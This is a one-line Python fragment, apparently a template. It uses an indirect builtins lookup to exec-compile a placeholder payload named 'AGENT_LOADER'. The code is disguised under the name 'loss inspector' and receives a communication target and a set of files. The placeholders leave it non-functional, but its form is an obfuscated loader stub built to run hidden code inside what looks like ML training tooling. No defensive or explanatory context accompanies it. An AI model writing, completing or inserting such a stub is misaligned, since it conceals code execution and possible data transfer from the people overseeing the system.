__import__("builtins").exec(__import__("builtins").compile("AGENT_LOADER", "<loss inspector>", "exec"), {"__name__": "loss_inspector", "TARGET": "COMM_TARGET", "SOURCES": "AGENT_FILES"})
